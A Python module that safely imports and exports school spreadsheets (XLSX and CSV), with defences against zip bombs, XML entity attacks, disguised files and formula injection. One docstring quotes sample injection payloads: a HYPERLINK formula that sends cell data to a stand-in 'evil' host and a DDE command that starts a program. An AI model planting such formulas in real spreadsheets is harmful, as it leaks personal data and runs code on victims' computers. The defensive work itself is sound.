"""Safe reading and writing of the spreadsheets schools exchange with us (XLSX and CSV).

No Django models here: the module turns bytes into rows of text and dates, and rows into XLSX bytes.
Schools send files made by Excel, LibreOffice, electronic journals and by hand, and a file may also
be hostile. Everything that can go wrong is answered with a `SpreadsheetError` carrying a Russian
message a school secretary can act on; nothing here raises anything else for bad input.

Defences, in the order they run:

- size: the caller's limit on bytes, before anything is parsed;
- kind: decided by the first bytes, not by the name. An old binary .xls and a password-protected
  .xlsx are both OLE compound files (D0 CF 11 E0 A1 B1 1A E1) that openpyxl cannot read; a PDF or a
  program renamed to .xlsx is refused as «not a table»;
- zip bombs: the central directory of an XLSX is checked (total unpacked size, number of members,
  compression ratio) before openpyxl opens it. Python's zipfile never unpacks more than a member's
  declared size, so the declared sizes are a real bound;
- XML bombs and external entities: openpyxl parses through defusedxml when it is installed (it is a
  dependency for this reason); defusedxml raises, and we explain;
- formulas are never evaluated: the workbook is opened with ``data_only=True``, so a formula cell
  gives the value Excel cached when it saved the file, or nothing; a text that starts with «=» is
  just text;
- the number of data rows is limited, so one upload cannot occupy the server for minutes.
"""

from __future__ import annotations

import csv
import datetime
import io
import re
import warnings
import zipfile
from collections.abc import Collection, Iterable, Iterator, Sequence
from dataclasses import dataclass
from decimal import Decimal
from itertools import chain, islice
from typing import IO

from defusedxml import DefusedXmlException
from openpyxl import Workbook, load_workbook
from openpyxl.cell import WriteOnlyCell
from openpyxl.cell.cell import ILLEGAL_CHARACTERS_RE
from openpyxl.styles import Font
from openpyxl.utils import get_column_letter
from openpyxl.worksheet._write_only import WriteOnlyWorksheet

from mentoring.people.normalize import normalize_header

MEGABYTE = 1024 * 1024
OLE_SIGNATURE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"
ZIP_SIGNATURE = b"PK\x03\x04"
PDF_SIGNATURE = b"%PDF"

# A 20 000-row school table unpacks to about 10 MB; 100 MB leaves room for styles and pictures.
MAX_UNCOMPRESSED_BYTES = 100 * MEGABYTE
# Real sheets compress 5–30 times; zip bombs a thousand times and more. Small members are let through
# whatever their ratio (an empty styles part compresses well and harms nobody).
MAX_COMPRESSION_RATIO = 200
RATIO_CHECK_FROM_BYTES = MEGABYTE
MAX_ZIP_MEMBERS = 2000
# Title rows above the header are allowed («Список наставников МБОУ ... на 2021 год»).
HEADER_SEARCH_ROWS = 20
# Excel keeps at most this many characters in a cell.
MAX_CELL_CHARACTERS = 32767

CSV_EXTENSIONS = frozenset({"csv", "txt"})
CSV_DELIMITERS = (";", "\t", ",")

NOT_A_TABLE = "Файл не похож на таблицу: загрузите файл Excel (.xlsx) или CSV (.csv)."
OLD_OR_PROTECTED = (
    "Файл защищён паролем или сохранён в старом формате .xls: сохраните его как .xlsx без пароля."
)
BROKEN_XLSX = "Файл Excel повреждён и не читается: откройте его в Excel и сохраните заново как .xlsx."
ZIP_BOMB = (
    "Файл распаковывается в слишком большой объём данных — обычная таблица так не устроена. "
    "Откройте его в Excel и сохраните заново как .xlsx."
)
XML_BOMB = (
    "Внутри файла есть опасные XML-конструкции (сущности или ссылки на внешние файлы), такой файл "
    "не читается. Откройте его в Excel и сохраните заново как .xlsx."
)
NO_HEADER = (
    f"Не найдена строка с названиями столбцов: в одной из первых {HEADER_SEARCH_ROWS} строк должны "
    "быть хотя бы два столбца из шаблона импорта (например, «ФИО» и «Категория»)."
)

CellValue = str | datetime.date


class SpreadsheetError(Exception):
    """The file cannot be read; `message` says why in words a school can act on."""

    def __init__(self, message: str) -> None:
        super().__init__(message)
        self.message = message


@dataclass
class Table:
    """The rows of one sheet under its header.

    `rows` holds `(row_number, {header_text: value})` with row numbers as Excel shows them (title rows
    and the header counted, 1-based). Values are stripped text or dates (cells Excel stores as dates);
    empty cells are left out of the dict, fully empty rows are left out of the list.
    """

    header_row: int
    headers: list[str]
    rows: list[tuple[int, dict[str, CellValue]]]
    sheet_title: str = ""


# --- reading -------------------------------------------------------------------------------------


def read_table(
    data: bytes,
    filename: str,
    *,
    max_rows: int,
    max_bytes: int,
    known_headers: Collection[str] = frozenset(),
) -> Table:
    """Reads the first sheet that has a header row (the active sheet first) of an XLSX or CSV file.

    `known_headers` are normalized column names (see `normalize_header`): the header is the first of
    the first 20 rows with at least two of them. Without known headers the first non-empty row is the
    header.
    """
    if not data:
        raise SpreadsheetError("Файл пустой.")
    if len(data) > max_bytes:
        raise SpreadsheetError(
            f"Файл больше {size_label(max_bytes)}: разделите его на части и загрузите по очереди."
        )
    if data.startswith(OLE_SIGNATURE):
        raise SpreadsheetError(OLD_OR_PROTECTED)
    if data.startswith(ZIP_SIGNATURE):
        return _read_xlsx(data, max_rows=max_rows, known_headers=known_headers)
    if data.startswith(PDF_SIGNATURE):
        raise SpreadsheetError("Это PDF-документ, а не таблица: загрузите файл Excel (.xlsx) или CSV (.csv).")
    if _extension(filename) in CSV_EXTENSIONS:
        return _read_csv(data, max_rows=max_rows, known_headers=known_headers)
    raise SpreadsheetError(NOT_A_TABLE)


def _extension(filename: str) -> str:
    return filename.rsplit(".", 1)[-1].lower() if "." in filename else ""


def size_label(size: int) -> str:
    """1 МБ, 20 МБ; below a megabyte in kilobytes (only tests use such limits)."""
    if size >= MEGABYTE:
        return f"{size // MEGABYTE} МБ"
    return f"{max(size // 1024, 1)} КБ"


def _check_zip(data: bytes) -> None:
    """Refuses archives that are not XLSX or that unpack into far more than they weigh."""
    try:
        with zipfile.ZipFile(io.BytesIO(data)) as archive:
            members = archive.infolist()
    except (zipfile.BadZipFile, zipfile.LargeZipFile, ValueError, OSError, EOFError) as error:
        raise SpreadsheetError(BROKEN_XLSX) from error
    if len(members) > MAX_ZIP_MEMBERS:
        raise SpreadsheetError(ZIP_BOMB)
    if sum(member.file_size for member in members) > MAX_UNCOMPRESSED_BYTES:
        raise SpreadsheetError(ZIP_BOMB)
    for member in members:
        if member.file_size > RATIO_CHECK_FROM_BYTES and member.file_size > MAX_COMPRESSION_RATIO * max(
            member.compress_size, 1
        ):
            raise SpreadsheetError(ZIP_BOMB)
    if any(member.flag_bits & 0x1 for member in members):
        raise SpreadsheetError(OLD_OR_PROTECTED)
    names = {member.filename for member in members}
    if "xl/workbook.xml" in names:
        return
    if "word/document.xml" in names:
        raise SpreadsheetError(
            "Это документ Word, а не таблица: загрузите файл Excel (.xlsx) или CSV (.csv)."
        )
    if "content.xml" in names and "mimetype" in names:
        raise SpreadsheetError(
            "Таблица сохранена в формате OpenDocument (.ods): сохраните её как .xlsx и загрузите снова."
        )
    raise SpreadsheetError(NOT_A_TABLE)


def _read_xlsx(data: bytes, *, max_rows: int, known_headers: Collection[str]) -> Table:
    _check_zip(data)
    try:
        # openpyxl warns about features it skips (data validation, default styles): not the user's business.
        with warnings.catch_warnings():
            warnings.simplefilter("ignore")
            workbook = load_workbook(io.BytesIO(data), read_only=True, data_only=True, keep_links=False)
            try:
                sheets = list(workbook.worksheets)
                active = workbook.active
                if active in sheets:
                    sheets.remove(active)
                    sheets.insert(0, active)
                for sheet in sheets:
                    if not hasattr(sheet, "iter_rows"):
                        continue  # a chart sheet
                    # Some programs write a wrong <dimension>; read whatever rows are really there.
                    if hasattr(sheet, "reset_dimensions"):
                        sheet.reset_dimensions()
                    table = _table_from_rows(
                        sheet.iter_rows(values_only=True), max_rows=max_rows, known_headers=known_headers
                    )
                    if table is not None:
                        table.sheet_title = sheet.title
                        return table
            finally:
                workbook.close()
    except SpreadsheetError:
        raise
    except Exception as error:
        # openpyxl reports a malformed file with a dozen exception types (KeyError, ValueError,
        # TypeError, ParseError, BadZipFile...) and wraps defusedxml's refusal in a ValueError. Any of
        # them means the file cannot be read, and bad input must never become a server error.
        if _caused_by_defusedxml(error):
            raise SpreadsheetError(XML_BOMB) from error
        raise SpreadsheetError(BROKEN_XLSX) from error
    raise SpreadsheetError(NO_HEADER)


def _caused_by_defusedxml(error: BaseException) -> bool:
    seen: set[int] = set()
    current: BaseException | None = error
    while current is not None and id(current) not in seen:
        if isinstance(current, DefusedXmlException):
            return True
        seen.add(id(current))
        current = current.__cause__ or current.__context__
    return False


def _decode_text(data: bytes) -> str:
    """UTF-8 (with or without BOM), UTF-16 with BOM (Excel's «Unicode text»), else Windows-1251."""
    if data.startswith((b"\xff\xfe", b"\xfe\xff")):
        try:
            return data.decode("utf-16")
        except UnicodeDecodeError as error:
            raise SpreadsheetError(NOT_A_TABLE) from error
    try:
        text = data.decode("utf-8-sig")
    except UnicodeDecodeError:
        try:
            text = data.decode("cp1251")
        except UnicodeDecodeError as error:
            raise SpreadsheetError(NOT_A_TABLE) from error
    if "\x00" in text:
        raise SpreadsheetError(NOT_A_TABLE)
    return text


def _read_csv(data: bytes, *, max_rows: int, known_headers: Collection[str]) -> Table:
    text = _decode_text(data)
    try:
        delimiter = _sniff_delimiter(text, known_headers)
        reader = csv.reader(io.StringIO(text, newline=""), delimiter=delimiter)
        table = _table_from_rows(reader, max_rows=max_rows, known_headers=known_headers)
    except csv.Error as error:
        raise SpreadsheetError(
            "CSV-файл не читается: в нём незакрытые кавычки или слишком длинная ячейка. "
            "Сохраните таблицу как .xlsx и загрузите снова."
        ) from error
    if table is None:
        raise SpreadsheetError(NO_HEADER)
    return table


def _sniff_delimiter(text: str, known_headers: Collection[str]) -> str:
    """The delimiter under which the header row is found with the most known columns.

    csv.Sniffer guesses from character frequencies and is often wrong for Russian tables, where
    commas occur inside text and «;» is Excel's choice; the header row decides better.
    """
    head = text[:65536]
    best, best_score = CSV_DELIMITERS[0], -1
    for delimiter in CSV_DELIMITERS:
        rows = list(
            islice(csv.reader(io.StringIO(head, newline=""), delimiter=delimiter), HEADER_SEARCH_ROWS)
        )
        if known_headers:
            score = max(
                (sum(normalize_header(cell) in known_headers for cell in row) for row in rows),
                default=0,
            )
        else:
            score = max((len(row) for row in rows), default=0)
        if score > best_score:
            best, best_score = delimiter, score
    return best


def _cell_value(value: object) -> CellValue | None:
    """A cell as text or a date; None when empty. Numbers become text as a person would type them."""
    if value is None:
        return None
    if isinstance(value, str):
        return value.strip() or None
    if isinstance(value, bool):
        return "да" if value else "нет"
    if isinstance(value, datetime.datetime):
        return value.date()
    if isinstance(value, datetime.date):
        return value
    if isinstance(value, int):
        return str(value)
    if isinstance(value, float):
        return str(int(value)) if value.is_integer() else f"{value:.15g}"
    if isinstance(value, Decimal):
        return str(value.normalize()) if value == value.to_integral_value() else str(value)
    text = str(value).strip()
    return text or None


def _header_text(value: object) -> str:
    cell = _cell_value(value)
    if cell is None:
        return ""
    if isinstance(cell, datetime.date):
        return cell.strftime("%d.%m.%Y")
    return " ".join(cell.split())


def _table_from_rows(
    rows: Iterable[Sequence[object]], *, max_rows: int, known_headers: Collection[str]
) -> Table | None:
    """Finds the header among the first rows and collects the non-empty rows under it.

    Returns None when no header is found (the caller may try another sheet).
    """
    iterator: Iterator[Sequence[object]] = iter(rows)
    header_row = 0
    headers: list[str] = []
    for number, row in enumerate(islice(iterator, HEADER_SEARCH_ROWS), start=1):
        texts = [_header_text(value) for value in row]
        if known_headers:
            found = sum(normalize_header(text) in known_headers for text in texts if text)
            is_header = found >= 2
        else:
            is_header = any(texts)
        if is_header:
            header_row, headers = number, texts
            break
    if not header_row:
        return None
    seen: set[str] = set()
    for text in headers:
        if text and text in seen:
            raise SpreadsheetError(
                f"Столбец «{text}» встречается в строке заголовков дважды: оставьте один и загрузите файл снова."
            )
        seen.add(text)
    width = len(headers)
    table_rows: list[tuple[int, dict[str, CellValue]]] = []
    for number, row in enumerate(iterator, start=header_row + 1):
        cells: dict[str, CellValue] = {}
        for index, value in enumerate(row[:width]):
            header = headers[index]
            if not header:
                continue
            cell = _cell_value(value)
            if cell is not None:
                cells[header] = cell
        if not cells:
            continue
        if len(table_rows) >= max_rows:
            raise SpreadsheetError(
                f"В файле больше {max_rows} строк: разделите его на части и загрузите по очереди."
            )
        table_rows.append((number, cells))
    return Table(header_row=header_row, headers=[text for text in headers if text], rows=table_rows)


# --- writing -------------------------------------------------------------------------------------

# Characters that make Excel, LibreOffice or a CSV re-import treat a text as a formula.
FORMULA_TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
# Text made only of digits, spaces, brackets and hyphens with an optional leading plus (a phone number
# such as «+7 (831) 234-56-78») cannot call a function or another program, so it is written as is:
# a quote in front of every phone number would only spoil the exported base.
_HARMLESS_NUMBER_TEXT = re.compile(r"^\+?[0-9][0-9 ()\-]*$")
DATE_FORMAT = "DD.MM.YYYY"
DATETIME_FORMAT = "DD.MM.YYYY HH:MM"
WIDTH_SAMPLE_ROWS = 200
MIN_COLUMN_WIDTH = 8
MAX_COLUMN_WIDTH = 60
_BOLD = Font(bold=True)
_ITALIC = Font(italic=True, color="FF555555")
_SHEET_TITLE_FORBIDDEN = re.compile(r"[\[\]:*?/\\]")


def neutralize_formula(text: str) -> str:
    """Prefixes a quote to text that a spreadsheet program could run as a formula.

    Why: openpyxl stores any string beginning with «=» as a formula, and Excel or LibreOffice treat a
    cell beginning with = + - @ (or a tab / carriage return before them) as a formula when the exported
    file is edited or re-saved as CSV and opened again ("CSV injection", OWASP). A formula such as
    ``=HYPERLINK("http://evil/?"&A2)`` or a DDE call ``=cmd|'/c calc'!A1`` in a person's notes would
    then leak the neighbouring personal data or start a program on the school's computer. A leading
    apostrophe makes the program show the cell as plain text; our importer removes it again, so an
    export can be imported back unchanged.
    """
    if text.startswith(FORMULA_TRIGGERS) and not _HARMLESS_NUMBER_TEXT.match(text):
        return "'" + text
    return text


def unneutralize_formula(text: str) -> str:
    """Undoes `neutralize_formula` for text read back from one of our exports."""
    if len(text) > 1 and text[0] == "'" and text[1:].startswith(FORMULA_TRIGGERS):
        return text[1:]
    return text


def _sheet_title(title: str) -> str:
    """Excel allows at most 31 characters in a sheet name and no []:*?/\\."""
    cleaned = _SHEET_TITLE_FORBIDDEN.sub(" ", title).strip() or "Лист1"
    return cleaned[:31]


def _display_length(value: object) -> int:
    if value is None:
        return 0
    if isinstance(value, datetime.datetime):
        return 16
    if isinstance(value, datetime.date):
        return 10
    text = str(value)
    return max((len(line) for line in text.splitlines()), default=0)


def _prepare(value: object) -> object:
    """A value openpyxl can write safely: strings cleaned and neutralised, dates kept as dates."""
    if value is None:
        return None
    if isinstance(value, bool):
        return "да" if value else "нет"
    if isinstance(value, datetime.datetime) and value.tzinfo is not None:
        # Excel has no time zones; the caller converts to local time, we only drop the marker.
        return value.replace(tzinfo=None)
    if isinstance(value, (int, float, Decimal, datetime.date)):
        return value
    text = ILLEGAL_CHARACTERS_RE.sub("", str(value))[:MAX_CELL_CHARACTERS]
    return neutralize_formula(text)


def _cell(sheet: WriteOnlyWorksheet, value: object, font: Font | None = None) -> object:
    """The value as openpyxl should write it. Plain text and numbers go as they are (a styled cell
    object per value costs a third more time on a large export); dates get their display format."""
    prepared = _prepare(value)
    is_date = isinstance(prepared, datetime.date)
    is_formula_like = isinstance(prepared, str) and prepared.startswith("=")
    if font is None and not is_date and not is_formula_like:
        return prepared
    cell = WriteOnlyCell(sheet, value=prepared)
    if isinstance(prepared, str):
        # openpyxl stores text beginning with «=» as a formula; neutralised text never does, and
        # this keeps it so should that ever change.
        cell.data_type = "s"
    elif isinstance(prepared, datetime.datetime):
        cell.number_format = DATETIME_FORMAT
    elif is_date:
        cell.number_format = DATE_FORMAT
    if font is not None:
        cell.font = font
    return cell


def write_xlsx(
    headers: list[str],
    rows: Iterable[Sequence[object]],
    *,
    sheet_title: str,
    preface: Sequence[Sequence[object]] = (),
) -> bytes:
    """The file of `write_xlsx_to` as bytes."""
    buffer = io.BytesIO()
    write_xlsx_to(buffer, headers, rows, sheet_title=sheet_title, preface=preface)
    return buffer.getvalue()


def write_xlsx_to(
    target: IO[bytes],
    headers: list[str],
    rows: Iterable[Sequence[object]],
    *,
    sheet_title: str,
    preface: Sequence[Sequence[object]] = (),
) -> None:
    """One sheet: optional `preface` rows (titles, hints; italic), the bold header row frozen so it
    stays visible while scrolling, then the rows. Dates are written as dates shown ДД.ММ.ГГГГ, so
    Excel sorts and filters them; text that could run as a formula is neutralised (see
    `neutralize_formula`).

    Written in openpyxl's write-only mode into `target` (a file, or a spooled temporary file for a
    download): memory stays flat however many rows there are. Column widths come from the header and
    the first rows.
    """
    workbook = Workbook(write_only=True)
    sheet = workbook.create_sheet(title=_sheet_title(sheet_title))
    iterator = iter(rows)
    sample = list(islice(iterator, WIDTH_SAMPLE_ROWS))
    for index, header in enumerate(headers):
        longest = max([len(header), *(_display_length(row[index]) for row in sample if index < len(row))])
        width = min(max(longest + 2, MIN_COLUMN_WIDTH), MAX_COLUMN_WIDTH)
        sheet.column_dimensions[get_column_letter(index + 1)].width = width
    header_row = len(preface) + 1
    sheet.freeze_panes = f"A{header_row + 1}"
    for row in preface:
        sheet.append([_cell(sheet, value, _ITALIC) for value in row])
    sheet.append([_cell(sheet, header, _BOLD) for header in headers])
    for row in chain(sample, iterator):
        sheet.append([_cell(sheet, value) for value in row])
    workbook.save(target)
